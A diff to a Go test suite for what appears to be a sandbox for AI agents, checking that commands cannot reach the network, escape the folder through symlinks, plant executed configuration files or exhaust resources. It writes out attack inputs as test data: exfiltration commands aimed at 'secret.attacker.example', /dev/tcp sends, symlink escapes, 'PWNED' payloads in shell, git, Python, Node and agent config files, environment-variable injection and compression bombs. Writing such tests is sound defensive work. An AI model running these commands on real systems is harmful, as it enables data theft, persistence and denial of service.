@@ -39,7 +39,8 @@ func bothOn(t *testing.T) (net.PacketConn, net.Listener) {
 	return nil, nil
 }
 
-// TestThreat04NoNetwork has every program that could reach a name server or anything else try it: nothing arrives, on no port and in no form.
+// TestThreat04NoNetwork has every program that could reach a name server or anything else try it: nothing arrives, on no port and in no
+// form.
 func TestThreat04NoNetwork(t *testing.T) {
 	var arrived atomic.Int64
 	packets, connections := bothOn(t)
@@ -69,7 +70,8 @@ func TestThreat04NoNetwork(t *testing.T) {
 	to := fmt.Sprintf("127.0.0.1:%d", port)
 	for _, script := range []string{
 		`nameserver=127.0.0.1; echo "nameserver 127.0.0.1" >/etc/resolv.conf; cat /etc/resolv.conf`,
-		`for c in dig nslookup host getent ping curl wget nc ncat socat telnet ssh openssl ftp whois traceroute; do $c secret.attacker.example ` + to + `; done`,
+		`for c in dig nslookup host getent ping curl wget nc ncat socat telnet ssh openssl ftp whois traceroute; do $c secret.attacker.example ` +
+			to + `; done`,
 		`exec 3<>/dev/tcp/127.0.0.1/` + fmt.Sprint(port) + `; echo secret >&3`,
 		`echo secret >/dev/udp/127.0.0.1/` + fmt.Sprint(port),
 		`curl -s http://` + to + `/secret; wget -qO- http://` + to,
@@ -80,7 +82,8 @@ func TestThreat04NoNetwork(t *testing.T) {
 		`node -e 'require("dns").lookup("secret.attacker.example", e => { if (!e) console.log("reached") })'`,
 		`node -e 'fetch("http://` + to + `").then(() => console.log("reached"))'`,
 		`node -e 'require("http").get("http://` + to + `", () => console.log("reached"))'`,
-		`node -e 'const s = require("dgram").createSocket("udp4"); s.send("secret", ` + fmt.Sprint(port) + `, "127.0.0.1", e => { if (!e) console.log("reached") })'`,
+		`node -e 'const s = require("dgram").createSocket("udp4"); s.send("secret", ` + fmt.Sprint(port) +
+			`, "127.0.0.1", e => { if (!e) console.log("reached") })'`,
 	} {
 		r, err := h.TryExec(t.Context(), s, spacetest.Shell(spec.ID, script))
 		if err != nil || r.Code == 0 || r.Stdout != "" {
@@ -134,8 +137,8 @@ func same(a, b map[string]string) bool {
 	return true
 }
 
-// TestThreat18NothingOutsideOfTheFolder plants links to what lies outside, before a command and beside it: nothing of that is read through a link, and nothing
-// is changed.
+// TestThreat18NothingOutsideOfTheFolder plants links to what lies outside, before a command and beside it: nothing of that is read
+// through a link, and nothing is changed.
 func TestThreat18NothingOutsideOfTheFolder(t *testing.T) {
 	t.Parallel()
 	h := host(t)
@@ -152,7 +155,8 @@ func TestThreat18NothingOutsideOfTheFolder(t *testing.T) {
 	}
 	before := tree(t, outside)
 	up := strings.Repeat("../", 20) + outside[1:]
-	for name, target := range map[string]string{"l": outside + "/secret", "ld": outside, "up": up, "root": "/proc/self/root", "cwd": "/proc/self/cwd", "fd": "/proc/self/fd/0", "dots": ".."} {
+	for name, target := range map[string]string{"l": outside + "/secret", "ld": outside, "up": up, "root": "/proc/self/root",
+		"cwd": "/proc/self/cwd", "fd": "/proc/self/fd/0", "dots": ".."} {
 		if err := os.Symlink(target, filepath.Join(spec.Dir, name)); err != nil {
 			t.Fatal(err)
 		}
@@ -161,9 +165,12 @@ func TestThreat18NothingOutsideOfTheFolder(t *testing.T) {
 		t.Fatal(err)
 	}
 	for _, script := range []string{
-		`cat l ld/secret up/secret up/d/secret root` + outside + `/secret cwd/secret dots/` + filepath.Base(outside) + `/secret ` + outside + `/secret ` + up + `/secret`,
-		`find -L . -name secret; ls -R ld/ up/ root/ cwd/; grep -r the-secret . ld/; tar cf - . | tar tf - | grep /secret; cp -rL ld x; cat x/secret`,
-		`python3 -c 'print(open("l").read())'; python3 -c 'import os; print(os.listdir("ld"))'; node -e 'console.log(require("fs").readFileSync("ld/secret", "utf8"))'`,
+		`cat l ld/secret up/secret up/d/secret root` + outside + `/secret cwd/secret dots/` + filepath.Base(outside) + `/secret ` + outside +
+			`/secret ` + up + `/secret`,
+		`find -L . -name secret; ls -R ld/ up/ root/ cwd/; grep -r the-secret . ld/; tar cf - . | tar tf - | grep /secret; cp -rL ld x; cat ` +
+			`x/secret`,
+		`python3 -c 'print(open("l").read())'; python3 -c 'import os; print(os.listdir("ld"))'; node -e ` +
+			`'console.log(require("fs").readFileSync("ld/secret", "utf8"))'`,
 	} {
 		r := h.Exec(t, s, spacetest.Shell(spec.ID, "{ "+script+"; } 2>/dev/null | grep -v '^./hard'; true"))
 		if strings.Contains(r.Stdout, "the-secret") || strings.Contains(r.Stdout, "secret\n") {
@@ -171,7 +178,8 @@ func TestThreat18NothingOutsideOfTheFolder(t *testing.T) {
 		}
 	}
 	for _, script := range []string{
-		`echo changed >l; echo changed >ld/secret; echo changed >up/new; mkdir ld/new; rm ld/secret up/d/secret; mv ld/d x; ln l ld/l2; chmod 777 ld/secret; touch up/secret; truncate -s 0 l`,
+		`echo changed >l; echo changed >ld/secret; echo changed >up/new; mkdir ld/new; rm ld/secret up/d/secret; mv ld/d x; ln l ld/l2; chmod ` +
+			`777 ld/secret; touch up/secret; truncate -s 0 l`,
 		`echo changed >hard`, `chmod 777 hard; touch -d @1 hard; rm hard`,
 		`rm -rf ld/ up/ root/ cwd/ dots/; rm -rf l ld up root cwd dots`,
 	} {
@@ -202,7 +210,8 @@ func TestThreat18NothingOutsideOfTheFolder(t *testing.T) {
 		exchanged <- n
 	}()
 	for i := range 100 {
-		r, err := h.TryExec(t.Context(), s, spacetest.Shell(spec.ID, fmt.Sprintf(`cat d/secret d/e/secret; echo %d >d/new; echo %d >d/secret; mkdir -p d/e/%d; rm -f d/e/secret; chmod 700 d/e`, i, i, i)))
+		r, err := h.TryExec(t.Context(), s, spacetest.Shell(spec.ID,
+			fmt.Sprintf(`cat d/secret d/e/secret; echo %d >d/new; echo %d >d/secret; mkdir -p d/e/%d; rm -f d/e/secret; chmod 700 d/e`, i, i, i)))
 		if strings.Contains(r.Stdout, "the-secret") {
 			t.Fatalf("run %d: it read %q (%v)", i, r.Stdout, err)
 		}
@@ -216,17 +225,25 @@ func TestThreat18NothingOutsideOfTheFolder(t *testing.T) {
 
 // configurations are files that programs of other systems execute or obey when they lie in the right place.
 var configurations = []string{
-	".bashrc", ".bash_profile", ".bash_login", ".bash_logout", ".profile", ".shrc", ".zshrc", ".zshenv", ".inputrc", ".env", ".envrc", ".editorconfig", ".npmrc", ".yarnrc.yml", ".pnp.cjs",
-	".gitconfig", ".git/config", ".git/hooks/pre-commit", ".git/hooks/post-checkout", ".config/git/config", ".ssh/config", ".ssh/authorized_keys", ".netrc", ".curlrc", ".wgetrc",
-	".pythonrc.py", "sitecustomize.py", "usercustomize.py", "pyvenv.cfg", "python.pth", ".local/lib/python3.13/site-packages/x.pth", ".local/lib/python3.13/site-packages/usercustomize.py",
-	".pdbrc", "conftest.py", "setup.cfg", "pyproject.toml", "encodings/__init__.py", "encodings.py", "site.py", "os.py", "__pycache__/os.cpython-313.pyc", "codecs.py", "io.py",
-	"node_modules/fs/index.js", "node_modules/path/index.js", "node_modules/.hooks/x", ".node_repl_history", "package.json", "bunfig.toml", "deno.json", "tsconfig.json", ".babelrc",
-	".noderc", "index.js", ".jq", ".jq/jq", ".awkrc", ".sedrc", ".bcrc", ".lesskey", ".exrc", ".vimrc", ".nanorc", ".dircolors", ".toprc", ".rgignore", ".ripgreprc",
-	"agentbox.json", "agentbox.toml", ".agentbox/config.json", ".agentbox/hooks/pre", ".claude/settings.json", ".cursor/mcp.json", ".mcp.json", ".vscode/settings.json",
+	".bashrc", ".bash_profile", ".bash_login", ".bash_logout", ".profile", ".shrc", ".zshrc", ".zshenv", ".inputrc", ".env", ".envrc",
+	".editorconfig", ".npmrc", ".yarnrc.yml", ".pnp.cjs",
+	".gitconfig", ".git/config", ".git/hooks/pre-commit", ".git/hooks/post-checkout", ".config/git/config", ".ssh/config",
+	".ssh/authorized_keys", ".netrc", ".curlrc", ".wgetrc",
+	".pythonrc.py", "sitecustomize.py", "usercustomize.py", "pyvenv.cfg", "python.pth", ".local/lib/python3.13/site-packages/x.pth",
+	".local/lib/python3.13/site-packages/usercustomize.py",
+	".pdbrc", "conftest.py", "setup.cfg", "pyproject.toml", "encodings/__init__.py", "encodings.py", "site.py", "os.py",
+	"__pycache__/os.cpython-313.pyc", "codecs.py", "io.py",
+	"node_modules/fs/index.js", "node_modules/path/index.js", "node_modules/.hooks/x", ".node_repl_history", "package.json", "bunfig.toml",
+	"deno.json", "tsconfig.json", ".babelrc",
+	".noderc", "index.js", ".jq", ".jq/jq", ".awkrc", ".sedrc", ".bcrc", ".lesskey", ".exrc", ".vimrc", ".nanorc", ".dircolors", ".toprc",
+	".rgignore", ".ripgreprc",
+	"agentbox.json", "agentbox.toml", ".agentbox/config.json", ".agentbox/hooks/pre", ".claude/settings.json", ".cursor/mcp.json", ".mcp.json",
+	".vscode/settings.json",
 	"AGENTS.md", "CLAUDE.md", "Makefile", ".gitattributes", ".gitmodules", "a.wasm", "ls", "cat", "python3", "node", "sh", "bash",
 }
 
-// TestThreat19NoFileIsAConfiguration has code write what programs obey elsewhere: the daemon's own files stay what they are, and no later command executes any of it.
+// TestThreat19NoFileIsAConfiguration has code write what programs obey elsewhere: the daemon's own files stay what they are, and no later
+// command executes any of it.
 func TestThreat19NoFileIsAConfiguration(t *testing.T) {
 	t.Parallel()
 	h := host(t)
@@ -235,11 +252,15 @@ func TestThreat19NoFileIsAConfiguration(t *testing.T) {
 	s := h.Create(t, spec)
 	clean := []spacetest.Command{}
 	for _, argv := range [][]string{
-		{"bash", "-c", "true"}, {"bash", "-lc", "true"}, {"bash", "-ic", "true"}, {"sh", "-c", "ls / >/dev/null; cat /etc/hosts >/dev/null"}, {"python3", "-c", "pass"}, {"python3", "-c", "import os, json, re"},
-		{"node", "-e", "0"}, {"node", "-e", "require('fs'); require('path')"}, {"bun", "-e", "0"}, {"js", "-e", "0"}, {"jq", "-n", "empty"}, {"awk", "BEGIN {}"}, {"sed", "-n", "", "/etc/hosts"},
-		{"bash", "-c", "echo | bc; find /etc >/dev/null; grep -q x /etc/hosts; ls >/dev/null; git status >/dev/null 2>&1; make >/dev/null 2>&1; true"},
+		{"bash", "-c", "true"}, {"bash", "-lc", "true"}, {"bash", "-ic", "true"}, {"sh", "-c", "ls / >/dev/null; cat /etc/hosts >/dev/null"},
+		{"python3", "-c", "pass"}, {"python3", "-c", "import os, json, re"},
+		{"node", "-e", "0"}, {"node", "-e", "require('fs'); require('path')"}, {"bun", "-e", "0"}, {"js", "-e", "0"}, {"jq", "-n", "empty"},
+		{"awk", "BEGIN {}"}, {"sed", "-n", "", "/etc/hosts"},
+		{"bash", "-c", "echo | bc; find /etc >/dev/null; grep -q x /etc/hosts; ls >/dev/null; git status >/dev/null 2>&1; make >/dev/null " +
+			"2>&1; true"},
 	} {
-		clean = append(clean, spacetest.Command{Space: spec.ID, Argv: argv, MS: 60_000, Env: map[string]string{"AGENTBOX_SEED": "s", "AGENTBOX_CLOCK": "2026-01-02T03:04:05Z"}})
+		clean = append(clean, spacetest.Command{Space: spec.ID, Argv: argv, MS: 60_000, Env: map[string]string{"AGENTBOX_SEED": "s",
+			"AGENTBOX_CLOCK": "2026-01-02T03:04:05Z"}})
 	}
 	var first []string
 	for _, c := range clean {
@@ -249,12 +270,15 @@ func TestThreat19NoFileIsAConfiguration(t *testing.T) {
 	settled := h.Tier.(*Tier).o.Cache
 	cache := tree(t, settled)
 	var script strings.Builder
-	for _, dir := range []string{"/workspace", "/tmp/home", "/tmp", "/", "/etc", "/root", "/usr/lib/python3.13", "/usr/local/lib/python3.13/site-packages"} {
+	for _, dir := range []string{"/workspace", "/tmp/home", "/tmp", "/", "/etc", "/root", "/usr/lib/python3.13",
+		"/usr/local/lib/python3.13/site-packages"} {
 		for _, name := range configurations {
-			fmt.Fprintf(&script, "mkdir -p $(dirname %[1]s/%[2]s); printf '#!/bin/sh\\necho PWNED\\nprint(\"PWNED\")\\n' >%[1]s/%[2]s && chmod 755 %[1]s/%[2]s\n", dir, name)
+			fmt.Fprintf(&script, "mkdir -p $(dirname %[1]s/%[2]s); printf '#!/bin/sh\\necho PWNED\\nprint(\"PWNED\")\\n' >%[1]s/%[2]s && chmod "+
+				"755 %[1]s/%[2]s\n", dir, name)
 		}
 	}
-	script.WriteString("export BASH_ENV=/workspace/.bashrc ENV=/workspace/.bashrc PYTHONSTARTUP=/workspace/os.py NODE_OPTIONS='-r /workspace/index.js'; exec 2>/dev/null; true")
+	script.WriteString("export BASH_ENV=/workspace/.bashrc ENV=/workspace/.bashrc PYTHONSTARTUP=/workspace/os.py NODE_OPTIONS='-r " +
+		"/workspace/index.js'; exec 2>/dev/null; true")
 	if r := h.Exec(t, s, spacetest.Shell(spec.ID, "exec 2>/dev/null; "+script.String())); r.Code != 0 {
 		t.Fatalf("got %+v", r)
 	}
@@ -269,7 +293,8 @@ func TestThreat19NoFileIsAConfiguration(t *testing.T) {
 	}
 	other := h.Spec(t)
 	o := h.Create(t, other)
-	if r := h.Exec(t, o, spacetest.Shell(other.ID, "ls -A /workspace /tmp /tmp/home /etc; ls -A / | head -n 20")); strings.Contains(r.Stdout, "bashrc") || strings.Contains(r.Stdout, "site") {
+	if r := h.Exec(t, o, spacetest.Shell(other.ID, "ls -A /workspace /tmp /tmp/home /etc; ls -A / | head -n 20")); strings.Contains(r.Stdout,
+		"bashrc") || strings.Contains(r.Stdout, "site") {
 		t.Errorf("another space finds %q", r.Stdout)
 	}
 	after := tree(t, settled)
@@ -296,7 +321,8 @@ func TestThreat33BombsAreBounded(t *testing.T) {
 	z := zip.NewWriter(&bomb)
 	raw := zeroes.Bytes()[10 : zeroes.Len()-8]
 	for i := range 100 {
-		f, err := z.CreateRaw(&zip.FileHeader{Name: fmt.Sprint(i), Method: zip.Deflate, CompressedSize64: uint64(len(raw)), UncompressedSize64: 64 << 20})
+		f, err := z.CreateRaw(&zip.FileHeader{Name: fmt.Sprint(i), Method: zip.Deflate, CompressedSize64: uint64(len(raw)),
+			UncompressedSize64: 64 << 20})
 		if err != nil {
 			t.Fatal(err)
 		}
@@ -314,9 +340,11 @@ func TestThreat33BombsAreBounded(t *testing.T) {
 	}{
 		{"f.gz", bytes.Repeat(zeroes.Bytes(), 160), []string{ // 10 GiB
 			`gunzip f.gz`, `gzip -dc f.gz >f`, `zcat f.gz | sort`, `x=$(zcat f.gz)`, `tar xzf f.gz; false`, `zcat f.gz | jq .`, `zcat f.gz`,
-			`python3 -c 'import gzip; gzip.open("f.gz").read()'`, `node -e 'require("zlib").gunzipSync(require("fs").readFileSync("f.gz"))'`, `gzip -t f.gz`, `gunzip -l f.gz`,
+			`python3 -c 'import gzip; gzip.open("f.gz").read()'`, `node -e 'require("zlib").gunzipSync(require("fs").readFileSync("f.gz"))'`,
+			`gzip -t f.gz`, `gunzip -l f.gz`,
 		}},
-		{"f.zip", bomb.Bytes(), []string{`unzip f.zip`, `unzip -p f.zip | sort`, `python3 -m zipfile -e f.zip .`, `python3 -c 'import zipfile; zipfile.ZipFile("f.zip").read("1")'`, `unzip -t f.zip`}},
+		{"f.zip", bomb.Bytes(), []string{`unzip f.zip`, `unzip -p f.zip | sort`, `python3 -m zipfile -e f.zip .`,
+			`python3 -c 'import zipfile; zipfile.ZipFile("f.zip").read("1")'`, `unzip -t f.zip`}},
 	} {
 		spec := h.Spec(t)
 		if err := os.WriteFile(filepath.Join(spec.Dir, x.name), x.content, 0o644); err != nil {
